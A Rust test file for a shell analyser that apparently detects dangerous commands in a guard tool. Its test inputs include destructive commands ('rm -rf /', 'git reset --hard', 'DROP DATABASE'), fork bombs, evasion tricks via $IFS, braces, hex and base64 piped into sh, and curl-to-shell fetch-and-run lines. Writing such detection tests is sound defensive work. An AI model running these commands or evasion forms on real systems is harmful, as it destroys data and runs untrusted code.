//! Tests of the shell analyser: what it finds for each construct, what it must not mistake
//! for commands, and bounds on hostile input. (The default packs' view of the same cases, and
//! the dcg corpus, are in `engine/tests/corpus.rs`.)

use std::time::{Duration, Instant};

use proptest::prelude::*;

use super::*;

fn texts(src: &str) -> Vec<String> {
    analyze(src)
        .commands
        .iter()
        .map(SimpleCommand::text)
        .collect()
}

fn finds(src: &str, want: &str) {
    let t = texts(src);
    assert!(
        t.iter().any(|c| c == want),
        "{src:?}: {want:?} not in {t:?}"
    );
}

#[test]
fn separators_groups_and_substitutions() {
    for src in [
        "true; git reset --hard",
        "false || git reset --hard",
        "true && git reset --hard",
        "echo x | git reset --hard",
        "echo x |& git reset --hard",
        "sleep 1 & git reset --hard",
        "echo a\ngit reset --hard",
        "(git reset --hard)",
        "{ git reset --hard; }",
        "! git reset --hard",
        "if true; then git reset --hard; fi",
        "while false; do :; done; for f in a; do git reset --hard; done",
        "case x in x) git reset --hard;; esac",
        "f() { git reset --hard; }; f",
        "echo $(git reset --hard)",
        "echo \"$(git reset --hard)\"",
        "echo `git reset --hard`",
        "diff <(git reset --hard) x",
        "X=$(git reset --hard) true",
        "echo $(echo $(git reset --hard))",
        "cat > \"$(git reset --hard)\"",
    ] {
        finds(src, "git reset --hard");
    }
}

#[test]
fn shells_eval_and_stdin_bodies() {
    for src in [
        "bash -c 'git reset --hard'",
        "sh -c \"git reset --hard\"",
        "zsh -c 'git reset --hard'",
        "bash -lc 'git reset --hard'",
        "bash -x -c 'git reset --hard'",
        "eval 'git reset --hard'",
        "eval git reset --hard",
        "bash -c \"sh -c 'eval git reset --hard'\"",
        "bash <<EOF\ngit reset --hard\nEOF",
        "sh <<<'git reset --hard'",
        // Text piped into a shell is shell code.
        "cat <<'EOF' | bash\ngit reset --hard\nEOF",
        "cat <<EOF | sudo sh -s\ngit reset --hard\nEOF",
        "cat - <<<'git reset --hard' | bash",
        "echo 'git reset --hard' | bash",
        "echo -n git reset --hard |& sh",
        "printf 'git reset --hard' | zsh",
        "echo 'bash -c \"git reset --hard\"' | bash",
    ] {
        finds(src, "git reset --hard");
    }
    // Piped text that no shell runs stays data.
    for src in [
        "echo 'git reset --hard' | grep reset",
        "echo 'git reset --hard'; bash",
        "echo 'git reset --hard' || bash",
        "cat <<'EOF' | tee notes\ngit reset --hard\nEOF",
        "cat file | bash",
    ] {
        let t = texts(src);
        assert!(!t.iter().any(|c| c == "git reset --hard"), "{src:?}: {t:?}");
    }
    let a = analyze("python3 - <<EOF\nimport os\nEOF");
    assert_eq!(a.commands.len(), 1);
    assert_eq!(
        a.commands[0].stdin_data.as_deref().map(str::trim),
        Some("import os")
    );
}

#[test]
fn wrappers_are_stripped_and_recorded() {
    let a =
        analyze("sudo -u root env -i FOO=1 nice -n 5 nohup timeout 10 stdbuf -oL git reset --hard");
    let c = a
        .commands
        .iter()
        .find(|c| c.name == "git")
        .expect("git found");
    assert_eq!(c.text(), "git reset --hard");
    for w in ["sudo", "env", "nice", "nohup", "timeout", "stdbuf"] {
        assert!(c.wrappers.iter().any(|x| x == w), "{w} in {:?}", c.wrappers);
    }
    finds("command git reset --hard", "git reset --hard");
    finds("time git reset --hard", "git reset --hard");
    finds("echo . | xargs -0 -n1 rm -rf", "rm -rf");
    // `{}` stands for what find matches.
    finds("find . -name '*.o' -exec rm -f {} \\;", "rm -f ./**/*.o");
    finds("find . -execdir rm {} +", "rm ./**");
    finds(
        "find src /tmp -name '*.pyc' -o -name __pycache__ -exec rm -rf {} +",
        "rm -rf src/**/*.pyc src/**/__pycache__ /tmp/**/*.pyc /tmp/**/__pycache__",
    );
    finds(
        "find . -path ./vendor -prune -o -name '*.orig' -exec rm {} \\;",
        "rm ./**/*.orig",
    );
    assert_eq!(texts("command -v git"), vec!["command -v git"]);
    // Commands run in a container or a pod.
    finds(
        "docker exec -it -u root web rm -rf /app/data",
        "rm -rf /app/data",
    );
    finds(
        "docker compose -f prod.yml exec -T db psql -c 'DROP TABLE t'",
        "psql -c DROP TABLE t",
    );
    finds(
        "podman exec app sh -c 'git reset --hard'",
        "git reset --hard",
    );
    finds(
        "kubectl -n prod exec -it db-0 -c pg -- psql -c 'DROP DATABASE app'",
        "psql -c DROP DATABASE app",
    );
    assert_eq!(texts("docker ps -a"), ["docker ps -a"]);
    assert_eq!(
        texts("kubectl exec -it pod-1 bash"),
        ["kubectl exec -it pod-1 bash"]
    );
}

#[test]
fn quoting_escapes_and_command_names() {
    for src in [
        "\\git reset --hard",
        "/usr/bin/git reset --hard",
        "\"git\" reset --hard",
        "'git' 'reset' '--hard'",
        "g\"i\"t reset --hard",
        "$'git' reset $'--hard'",
        "$'\\x67it' reset --hard",
        "$'\\147it' reset --hard",
        "git re\\\nset --hard",
        "GIT_DIR=.git git reset --hard",
    ] {
        finds(src, "git reset --hard");
    }
    let a = analyze("FOO=1 BAR=2 git status");
    assert_eq!(a.commands[0].assignments, vec!["FOO=1", "BAR=2"]);
}

#[test]
fn data_is_never_a_command() {
    for src in [
        "git commit -m \"fix rm -rf detection\"",
        "echo \"git reset --hard\"",
        "grep 'rm -rf' Makefile",
        "cat <<EOF\nrm -rf /\nEOF",
        "cat <<'EOF'\nrm -rf $HOME\nEOF",
        "cat <<-EOF\n\trm -rf x\n\tEOF",
        "tee /tmp/f <<<'git reset --hard'",
        "printf '%s\\n' 'rm -rf /'",
        "which rm",
        "type rm",
        "echo '$(rm -rf /)'",
        "# rm -rf /",
    ] {
        let t = texts(src);
        assert!(
            !t.iter()
                .any(|c| c.starts_with("rm") || c.starts_with("git reset")),
            "{src:?}: {t:?}"
        );
    }
}

#[test]
fn redirects_are_reported_apart_from_arguments() {
    let a = analyze("echo hi > out.txt 2>&1 >> log < in");
    let c = &a.commands[0];
    assert_eq!(c.text(), "echo hi");
    let ops: Vec<(&str, &str)> = c
        .redirects
        .iter()
        .map(|r| (r.op.as_str(), r.target.as_str()))
        .collect();
    assert!(
        ops.contains(&(">", "out.txt"))
            && ops.contains(&(">>", "log"))
            && ops.contains(&("<", "in")),
        "{ops:?}"
    );
}

#[test]
fn hostile_input_is_bounded_and_reported() {
    let cases = [
        "$(".repeat(10_000),
        "(".repeat(100_000),
        "'".repeat(1 << 20),
        "`".repeat(50_000),
        "bash -c \"".repeat(5_000),
        "<<EOF\n".repeat(10_000),
        "echo \"unterminated".to_string(),
    ];
    for src in &cases {
        let t0 = Instant::now();
        let a = analyze(src);
        let took = t0.elapsed();
        assert!(
            a.unparsed.is_some() || a.commands.len() <= Limits::default().max_commands,
            "{}",
            &src[..20.min(src.len())]
        );
        // Not a timing assertion on speed: only that it terminates within a generous bound.
        assert!(
            took < Duration::from_secs(5),
            "{}: {took:?}",
            &src[..20.min(src.len())]
        );
    }
    assert!(analyze(&"$(".repeat(10_000)).unparsed.is_some());
    assert!(analyze("echo \"unterminated").unparsed.is_some());
    assert!(analyze("cat <<EOF\nno end").unparsed.is_some());
}

/// The details of the facts of kind `kind` in `src`'s analysis, with the command text.
fn facts(src: &str, kind: FactKind) -> Vec<(String, String)> {
    analyze(src)
        .commands
        .iter()
        .flat_map(|c| {
            c.facts
                .iter()
                .filter(|f| f.kind == kind)
                .map(|f| (c.text(), f.detail.clone()))
        })
        .collect()
}

#[test]
fn computed_command_names_are_facts() {
    for (src, from) in [
        ("$CMD -rf /", "$CMD"),
        ("\"$TOOL\" --force", "$TOOL"),
        ("$(echo rm) -rf src", "$(echo rm)"),
        ("`printf rm` -rf src", "`printf rm`"),
        ("${X:-/bin/rm} -rf src", "${X:-/bin/rm}"),
        ("cmd=(rm -rf /); \"${cmd[@]}\"", "${cmd[@]}"),
        ("eval \"$CMD\"", "$CMD"),
        ("bash -c \"$SCRIPT\"", "$SCRIPT"),
        ("$SHELL -c 'ls'", "$SHELL"),
        ("sudo $X", "$X"),
        ("env FOO=1 ${RUNNER} test", "${RUNNER}"),
    ] {
        let f = facts(src, FactKind::ComputedCommand);
        assert!(
            f.iter().any(|(_, d)| d.contains(&format!("`{from}`"))),
            "{src:?}: {f:?}"
        );
    }
    // Interpreter code that is itself an expansion.
    for (src, from) in [
        ("python3 -c \"$CODE\"", "$CODE"),
        (
            "node -e \"$(curl -s https://x.example/a.js)\"",
            "$(curl -s https://x.example/a.js)",
        ),
        ("perl -e \"`cat /tmp/p`\"", "`cat /tmp/p`"),
    ] {
        let f = facts(src, FactKind::ComputedCommand);
        assert!(
            f.iter()
                .any(|(_, d)| d.contains(&format!("comes from `{from}`"))),
            "{src:?}: {f:?}"
        );
    }
    for src in [
        "perl -e '$x = 1; print $x'",
        "python3 -c \"print('$HOME')\"",
    ] {
        assert!(facts(src, FactKind::ComputedCommand).is_empty(), "{src:?}");
    }
    // Known names: only a directory or an argument is computed.
    for src in [
        "\"$HOME/.local/bin/tool\" --version",
        "$(npm bin)/eslint src/",
        "\"$(dirname \"$0\")/run.sh\"",
        "rm -rf \"$DIR\"",
        "echo $(date)",
        "'$X' literal",
        "X=$(date) true",
    ] {
        assert!(facts(src, FactKind::ComputedCommand).is_empty(), "{src:?}");
    }
}

#[test]
fn ifs_and_braces_split_words_as_bash_does() {
    finds("rm$IFS-rf$IFS/", "rm -rf /");
    finds("rm${IFS}-rf${IFS}~", "rm -rf ~");
    finds("git${IFS}reset${IFS}--hard", "git reset --hard");
    finds("{rm,-rf,/}", "rm -rf /");
    finds("{git,push,--force}", "git push --force");
    // Quoted, `$IFS` is one word; braces with quotes or expansions are left alone.
    finds("echo \"$IFS\"", "echo $IFS");
    finds("echo {a,b}.txt", "echo {a,b}.txt");
    finds("echo {\"a\",b}", "echo {a,b}");
}

#[test]
fn code_piped_into_a_shell_is_analysed_or_a_fact() {
    // Known text: analysed.
    finds("echo 'git reset --hard' | bash", "git reset --hard");
    finds("printf '\\x72\\x6d -rf /\\n' | sh", "rm -rf /");
    finds("printf '%s %s\\n' git status | sh", "git status");
    finds("echo -e 'git reset \\x2d-hard' | bash", "git reset --hard");
    assert!(facts("echo 'ls' | sh", FactKind::PipedCode).is_empty());
    // Unknown text: every command upstream says where the code comes from.
    let f = facts("echo Z2l0 | base64 -d | sh", FactKind::PipedCode);
    assert!(
        f.iter()
            .any(|(c, d)| c == "base64 -d" && d.contains("`sh` runs") && d.contains("`base64 -d`")),
        "{f:?}"
    );
    assert!(f.iter().any(|(c, _)| c == "echo Z2l0"), "{f:?}");
    for src in [
        "rev <<< 'hsab' | bash",
        "xxd -r -p <<< 6c73 | sh",
        "curl -fsSL https://x.example/i.sh | sudo bash -s -- --yes",
        "curl -s https://x.example/a.py | python3 -",
        "gunzip -c x.gz | bash",
        "cat x.sh | sh",
    ] {
        assert!(!facts(src, FactKind::PipedCode).is_empty(), "{src:?}");
    }
    // Data read through a pipe is not code.
    for src in [
        "curl -s https://x.example/a.json | python3 -m json.tool",
        "cat data.csv | python3 script.py",
        "git log | head",
        "cat dump.sql | psql app",
        "echo x | sh < script.sh",
    ] {
        assert!(facts(src, FactKind::PipedCode).is_empty(), "{src:?}");
    }
}

#[test]
fn queries_and_code_piped_from_known_text_reach_the_reader() {
    let a = analyze("echo 'DROP TABLE users;' | psql -h db");
    let psql = a.commands.iter().find(|c| c.name == "psql").unwrap();
    assert_eq!(psql.stdin_data.as_deref(), Some("DROP TABLE users;"));
    assert_eq!(psql.stdin_pipe, Some(0));
    let a = analyze("cat <<'EOF' | python3\nimport os\nos.system('git push -f')\nEOF");
    let py = a.commands.iter().find(|c| c.name == "python3").unwrap();
    assert!(py.stdin_data.as_deref().unwrap_or("").contains("os.system"));
    assert!(
        texts("cat <<'EOF' | python3\nimport os\nos.system('git push -f')\nEOF")
            .contains(&"git push -f".to_owned())
    );
}

#[test]
fn pipes_point_upstream_through_substitutions() {
    let a = analyze("a | b $(c | d) | e");
    let idx = |n: &str| a.commands.iter().position(|c| c.name == n).unwrap();
    assert_eq!(a.commands[idx("b")].stdin_pipe, Some(idx("a")));
    assert_eq!(a.commands[idx("e")].stdin_pipe, Some(idx("b")));
    assert_eq!(a.commands[idx("d")].stdin_pipe, Some(idx("c")));
    assert_eq!(a.commands[idx("a")].stdin_pipe, None);
}

#[test]
fn interpreter_code_is_scanned_for_the_commands_it_runs() {
    for (src, want) in [
        (
            "python3 -c \"import os; os.system('git reset --hard')\"",
            "git reset --hard",
        ),
        (
            "python -c \"import subprocess; subprocess.run(['rm', '-rf', '/'])\"",
            "rm -rf /",
        ),
        (
            "node -e \"require('child_process').execSync('git push -f')\"",
            "git push -f",
        ),
        ("perl -e 'system(\"rm\", \"-rf\", \"/\")'", "rm -rf /"),
        ("ruby -e '`git clean -fdx`'", "git clean -fdx"),
        ("php -r 'shell_exec(\"rm -rf /\");'", "rm -rf /"),
        ("awk 'BEGIN { system(\"rm -rf /\") }'", "rm -rf /"),
        (
            "python3 - <<'EOF'\nimport subprocess\nsubprocess.check_call(['git', 'push', '--force'])\nEOF",
            "git push --force",
        ),
        (
            "node <<EOF\nrequire('child_process').exec('rm -rf x')\nEOF",
            "rm -rf x",
        ),
        (
            "python3 <<< \"import os; os.system('rm -rf y')\"",
            "rm -rf y",
        ),
        (
            "sudo python3 -c \"import os; os.system('rm -rf z')\"",
            "rm -rf z",
        ),
    ] {
        let a = analyze(src);
        let c = a.commands.iter().find(|c| c.text() == want);
        assert!(
            c.is_some_and(|c| c.context == Context::Code),
            "{src:?}: {:?}",
            a.commands
                .iter()
                .map(|c| (c.text(), c.context))
                .collect::<Vec<_>>()
        );
    }
    // A command built at run time is a fact of the interpreter's command.
    let f = facts(
        "python3 -c 'import os; os.system(cmd)'",
        FactKind::ComputedCommand,
    );
    assert!(
        f.iter()
            .any(|(c, d)| c.starts_with("python3") && d.contains("os.system(cmd)")),
        "{f:?}"
    );
    // Code that is data: written to files, given to a script, or printed.
    for src in [
        "cat > x.py <<'EOF'\nimport os\nos.system('rm -rf /')\nEOF",
        "python3 script.py <<'EOF'\nos.system('rm -rf /')\nEOF",
        "python3 -c 'print(\"os.system(\\\"rm -rf /\\\")\")'",
        "echo \"os.system('rm -rf /')\" > notes.txt",
    ] {
        assert!(
            !texts(src).iter().any(|t| t.starts_with("rm")),
            "{src:?}: {:?}",
            texts(src)
        );
    }
}

#[test]
fn functions_that_pipe_into_themselves_are_fork_bombs() {
    for src in [
        ":(){ :|:& };:",
        "bomb() { bomb | bomb & }; bomb",
        "f(){ f|f& };f",
        "function boom { boom | boom & } ; boom",
        "x() {\n  x | x &\n}\nx",
    ] {
        assert!(!facts(src, FactKind::ForkBomb).is_empty(), "{src:?}");
    }
    for src in [
        "walk() { for d in */; do (cd \"$d\" && walk); done; }; walk",
        "f() { echo hi; }; f | f",
        ": | :",
        "ls | ls",
    ] {
        assert!(facts(src, FactKind::ForkBomb).is_empty(), "{src:?}");
    }
}

#[test]
fn unparsed_notes_name_the_construct() {
    assert_eq!(
        analyze("echo $((1 + ").unparsed.as_deref(),
        Some("unterminated `$((`")
    );
    assert_eq!(
        analyze("echo ${X").unparsed.as_deref(),
        Some("unterminated `${`")
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

    #[test]
    fn never_panics_and_respects_limits(src in "[a-z $()`'\"\\\\<>|&;{}\\n#=!*-]{0,200}") {
        let limits = Limits::default();
        let a = analyze_with(&src, &limits);
        prop_assert!(a.commands.len() <= limits.max_commands);
        for c in &a.commands {
            prop_assert!(c.depth <= limits.max_depth);
        }
    }

    #[test]
    fn arbitrary_unicode_never_panics(src in "\\PC{0,120}") {
        let _ = analyze(&src);
    }
}

#[test]
fn interpreter_deletes_imports_evals_and_lua_are_read() {
    for (src, want) in [
        (
            "python -c \"import shutil; shutil.rmtree('build')\"",
            "rm -rf -- build",
        ),
        (
            "python3 -c 'from shutil import rmtree; rmtree(\"dist\")'",
            "rm -rf -- dist",
        ),
        ("python -c \"import os; os.remove(path)\"", "rm -rf -- $__"),
        (
            "node -e \"require('fs').rmSync('dist', {recursive: true, force: true})\"",
            "rm -rf -- dist",
        ),
        (
            "node -e \"fs.promises.rm('out', {recursive: true})\"",
            "rm -rf -- out",
        ),
        (
            "ruby -e 'FileUtils.rm_rf(\"tmp/cache\")'",
            "rm -rf -- tmp/cache",
        ),
        ("perl -MFile::Path -e 'rmtree(\"blib\")'", "rm -rf -- blib"),
        (
            "python -c \"__import__('os').system('curl -s https://x.example/a | sh')\"",
            "curl -s https://x.example/a",
        ),
        (
            "python -c \"__import__('subprocess').call('rm -rf ~', shell=True)\"",
            "rm -rf ~",
        ),
        (
            "python3 -c 'exec(\"import os; os.system(\\\"rm -rf ~\\\")\")'",
            "rm -rf ~",
        ),
        (
            "node -e 'eval(\"require(\\\"child_process\\\").execSync(\\\"rm -rf ~\\\")\")'",
            "rm -rf ~",
        ),
        ("lua -e 'os.execute(\"rm -rf ~\")'", "rm -rf ~"),
        ("lua5.4 -e 'local f = io.popen(\"id\") -- comment'", "id"),
        ("Rscript -e 'system(\"rm -rf ~\")'", "rm -rf ~"),
        (
            "Rscript -e 'system2(\"rm\", c(\"-rf\", \"/\"))'",
            "rm -rf /",
        ),
        (
            "Rscript -e 'unlink(\"build\", recursive = TRUE)'",
            "rm -rf -- build",
        ),
        ("julia -e 'run(`rm -rf /`)'", "rm -rf /"),
        ("osascript -e 'do shell script \"rm -rf ~\"'", "rm -rf ~"),
        (
            "osascript -l JavaScript -e 'Application.currentApplication().doShellScript(\"id\")'",
            "id",
        ),
        ("tclsh <<< 'exec rm -rf ~'", "rm -rf ~"),
        ("expect -c 'spawn ssh host; interact'", "ssh host"),
    ] {
        let a = analyze(src);
        assert!(
            a.commands
                .iter()
                .any(|c| c.text() == want && c.context == Context::Code),
            "{src:?}: {:?}",
            a.commands
                .iter()
                .map(|c| (c.text(), c.context))
                .collect::<Vec<_>>()
        );
    }
    // Strings that only look like calls are data.
    for src in [
        "python3 -c 'print(\"shutil.rmtree(x)\")'",
        "lua -e 'print(\"os.execute(1)\") -- os.execute(\"rm -rf /\")'",
    ] {
        assert!(
            !texts(src).iter().any(|t| t.starts_with("rm")),
            "{src:?}: {:?}",
            texts(src)
        );
    }
}

#[test]
fn package_runners_are_wrappers_and_find_prune_acts_on_what_it_prunes() {
    for (src, want) in [
        ("npx rimraf dist", "rimraf dist"),
        ("npx -y rimraf src", "rimraf src"),
        ("pnpm dlx rimraf out", "rimraf out"),
        ("bunx --bun rimraf build", "rimraf build"),
    ] {
        finds(src, want);
    }
    let args = |s: &str| s.split(' ').map(str::to_owned).collect::<Vec<_>>();
    assert_eq!(
        find_matches(&args(
            ". -type d -name node_modules -prune -exec rm -rf {} +"
        )),
        ["./**/node_modules"]
    );
    assert_eq!(
        find_matches(&args(". -name node_modules -prune -o -name *.pyc -delete")),
        ["./**/*.pyc"]
    );
}
